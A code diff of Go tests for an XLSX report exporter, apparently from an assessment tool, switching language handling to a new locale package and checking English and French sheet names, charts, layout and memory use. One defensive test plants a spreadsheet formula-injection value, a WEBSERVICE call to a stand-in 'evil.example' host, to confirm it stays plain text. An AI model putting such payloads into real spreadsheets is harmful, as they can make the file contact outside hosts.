@@ -19,6 +19,7 @@ import (
 	"github.com/xuri/excelize/v2"
 
 	"github.com/ecat-project/ecat/assessment"
+	"github.com/ecat-project/ecat/locale"
 	"github.com/ecat-project/ecat/pillars"
 )
 
@@ -60,10 +61,10 @@ func sampleReport(t testing.TB) (*Report, *pillars.Instrument) {
 	return Build(a, in, tally(in, rs)), in
 }
 
-func writeBook(t testing.TB, r *Report, in *pillars.Instrument, lang pillars.Lang) ([]byte, *excelize.File) {
+func writeBook(t testing.TB, r *Report, in *pillars.Instrument, lang locale.Lang) ([]byte, *excelize.File) {
 	t.Helper()
 	var buf bytes.Buffer
-	if err := WriteXLSX(&buf, r, in, lang, testNow); err != nil {
+	if err := WriteXLSX(&buf, r, in, printerFor(lang), testNow); err != nil {
 		t.Fatalf("WriteXLSX: %v", err)
 	}
 	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
@@ -126,11 +127,11 @@ func zipParts(t testing.TB, raw []byte) map[string]string {
 func TestXLSXSheetNames(t *testing.T) {
 	rep, in := sampleReport(t)
 	for _, tt := range []struct {
-		lang pillars.Lang
+		lang locale.Lang
 		want []string
 	}{
-		{pillars.English, []string{"Summary", "Leadership", "Staff and teams", "Themes", "Strengths & opportunities", "Reflections", "Discussion guide", "Action plan"}},
-		{pillars.French, []string{"Résumé", "Leadership", "Personnel et équipes", "Thèmes", "Forces et possibilités", "Réflexions", "Guide de discussion", "Plan d'action"}},
+		{locale.English, []string{"Summary", "Leadership", "Staff and teams", "Themes", "Strengths & opportunities", "Reflections", "Discussion guide", "Action plan"}},
+		{locale.French, []string{"Résumé", "Leadership", "Personnel et équipes", "Thèmes", "Forces et possibilités", "Réflexions", "Guide de discussion", "Plan d'action"}},
 	} {
 		t.Run(string(tt.lang), func(t *testing.T) {
 			_, f := writeBook(t, rep, in, tt.lang)
@@ -146,7 +147,7 @@ func TestXLSXSheetNames(t *testing.T) {
 	all := Build(&assessment.Assessment{Threshold: 1}, in, tally(in, []respondent{
 		uniform(in, pillars.Leadership, assessment.Yes, "a"), uniform(in, pillars.Staff, assessment.Yes, "b"), uniform(in, pillars.PatientPartners, assessment.Yes, "c"),
 	}))
-	_, f := writeBook(t, all, in, pillars.French)
+	_, f := writeBook(t, all, in, locale.French)
 	if got := f.GetSheetList(); !slices.Contains(got, "Patients partenaires") || len(got) != 9 {
 		t.Errorf("sheets %q", got)
 	}
@@ -157,7 +158,7 @@ func TestXLSXSheetNames(t *testing.T) {
 // and why.
 func TestXLSXWithheldGroupAbsent(t *testing.T) {
 	rep, in := sampleReport(t)
-	for _, lang := range pillars.Langs {
+	for _, lang := range locale.Languages() {
 		raw, f := writeBook(t, rep, in, lang)
 		l := newLabeler(lang)
 		if slices.Contains(f.GetSheetList(), l.T("sheet.pillar.patient_partners")) {
@@ -206,7 +207,7 @@ func TestXLSXWithheldGroupAbsent(t *testing.T) {
 // TestXLSXPillarFigures checks every item row against the Report.
 func TestXLSXPillarFigures(t *testing.T) {
 	rep, in := sampleReport(t)
-	for _, lang := range pillars.Langs {
+	for _, lang := range locale.Languages() {
 		_, f := writeBook(t, rep, in, lang)
 		l := newLabeler(lang)
 		for _, g := range rep.Groups {
@@ -270,7 +271,7 @@ func TestXLSXPillarFigures(t *testing.T) {
 	}
 }
 
-func statementIn(in *pillars.Instrument, id string, lang pillars.Lang) string {
+func statementIn(in *pillars.Instrument, id string, lang locale.Lang) string {
 	it, _, _ := in.Item(id)
 	return it.Text.In(lang)
 }
@@ -293,7 +294,7 @@ func TestXLSXInjectedTextStaysText(t *testing.T) {
 	rep, in := sampleReport(t)
 	rep.Assessment.Title = "=WEBSERVICE(\"http://evil.example\")"
 	rep.Assessment.Team = "+1-1"
-	raw, f := writeBook(t, rep, in, pillars.English)
+	raw, f := writeBook(t, rep, in, locale.English)
 	found := map[string]int{}
 	cells(t, f, func(sheet, ref, v string) {
 		if formula, err := f.GetCellFormula(sheet, ref); err != nil || formula != "" {
@@ -331,7 +332,7 @@ func TestXLSXInjectedTextStaysText(t *testing.T) {
 
 func TestXLSXActionPlanStatusList(t *testing.T) {
 	rep, in := sampleReport(t)
-	for _, lang := range pillars.Langs {
+	for _, lang := range locale.Languages() {
 		_, f := writeBook(t, rep, in, lang)
 		l := newLabeler(lang)
 		sheet := l.T("sheet.actions")
@@ -360,7 +361,7 @@ func TestXLSXActionPlanStatusList(t *testing.T) {
 
 func TestXLSXLayoutAndProperties(t *testing.T) {
 	rep, in := sampleReport(t)
-	for _, lang := range pillars.Langs {
+	for _, lang := range locale.Languages() {
 		_, f := writeBook(t, rep, in, lang)
 		for _, sheet := range f.GetSheetList() {
 			panes, err := f.GetPanes(sheet)
@@ -396,7 +397,7 @@ func TestXLSXLayoutAndProperties(t *testing.T) {
 // order.
 func TestXLSXWellFormedParts(t *testing.T) {
 	rep, in := sampleReport(t)
-	raw, _ := writeBook(t, rep, in, pillars.French)
+	raw, _ := writeBook(t, rep, in, locale.French)
 	checkParts(t, raw)
 }
 
@@ -439,7 +440,7 @@ func checkParts(t *testing.T, raw []byte) {
 // and band colours on its scores; the Themes heatmap has them too.
 func TestXLSXChartsAndColours(t *testing.T) {
 	rep, in := sampleReport(t)
-	raw, f := writeBook(t, rep, in, pillars.English)
+	raw, f := writeBook(t, rep, in, locale.English)
 	parts := zipParts(t, raw)
 	shown := 0
 	for _, g := range rep.Groups {
@@ -461,7 +462,7 @@ func TestXLSXChartsAndColours(t *testing.T) {
 	if charts != shown {
 		t.Errorf("%d charts, want one per shown pillar (%d)", charts, shown)
 	}
-	l := newLabeler(pillars.English)
+	l := newLabeler(locale.English)
 	for _, g := range rep.Groups {
 		if g.Withheld {
 			continue
@@ -515,7 +516,7 @@ func sheetPart(f *excelize.File, sheet string) (string, bool) {
 
 func TestXLSXVerbatimsAndGuide(t *testing.T) {
 	rep, in := sampleReport(t)
-	_, f := writeBook(t, rep, in, pillars.English)
+	_, f := writeBook(t, rep, in, locale.English)
 	rows, _ := f.GetRows("Strengths & opportunities")
 	var strengths, opportunities int
 	for _, row := range rows[2:] {
@@ -568,7 +569,7 @@ func TestXLSXVerbatimsAndGuide(t *testing.T) {
 func TestXLSXAllWithheld(t *testing.T) {
 	in := instrument(t)
 	rep := Build(&assessment.Assessment{Title: "Tiny", Threshold: 3}, in, tally(in, []respondent{uniform(in, pillars.Staff, assessment.Yes, "SECRET")}))
-	_, f := writeBook(t, rep, in, pillars.English)
+	_, f := writeBook(t, rep, in, locale.English)
 	if got, want := f.GetSheetList(), []string{"Summary", "Themes", "Strengths & opportunities", "Reflections", "Discussion guide", "Action plan"}; !slices.Equal(got, want) {
 		t.Errorf("sheets %q", got)
 	}
@@ -581,10 +582,10 @@ func TestXLSXAllWithheld(t *testing.T) {
 
 func TestXLSXNeedsReport(t *testing.T) {
 	in := instrument(t)
-	if err := WriteXLSX(io.Discard, nil, in, pillars.English, testNow); err == nil {
+	if err := WriteXLSX(io.Discard, nil, in, printerFor(locale.English), testNow); err == nil {
 		t.Error("nil report accepted")
 	}
-	if err := WriteXLSX(io.Discard, &Report{}, nil, pillars.English, testNow); err == nil {
+	if err := WriteXLSX(io.Discard, &Report{}, nil, printerFor(locale.English), testNow); err == nil {
 		t.Error("nil instrument accepted")
 	}
 }
@@ -631,14 +632,14 @@ func TestXLSXLarge(t *testing.T) {
 	// a late SetActiveSheet did) took it past 300 MB.
 	var before, after runtime.MemStats
 	runtime.ReadMemStats(&before)
-	if err := WriteXLSX(io.Discard, rep, in, pillars.English, testNow); err != nil {
+	if err := WriteXLSX(io.Discard, rep, in, printerFor(locale.English), testNow); err != nil {
 		t.Fatal(err)
 	}
 	runtime.ReadMemStats(&after)
 	if mb := (after.TotalAlloc - before.TotalAlloc) >> 20; mb > 150 && !raceEnabled() {
 		t.Errorf("writing 10,000 respondents allocated %d MB", mb)
 	}
-	raw, f := writeBook(t, rep, in, pillars.English)
+	raw, f := writeBook(t, rep, in, locale.English)
 	t.Logf("workbook of 10,000 respondents: %d kB", len(raw)>>10)
 	rows, err := f.Rows("Reflections")
 	if err != nil {
@@ -676,7 +677,7 @@ func BenchmarkWriteXLSX10k(b *testing.B) {
 	rep, in := largeReport(b, 10_000)
 	b.ReportAllocs()
 	for b.Loop() {
-		if err := WriteXLSX(io.Discard, rep, in, pillars.English, testNow); err != nil {
+		if err := WriteXLSX(io.Discard, rep, in, printerFor(locale.English), testNow); err != nil {
 			b.Fatal(err)
 		}
 	}
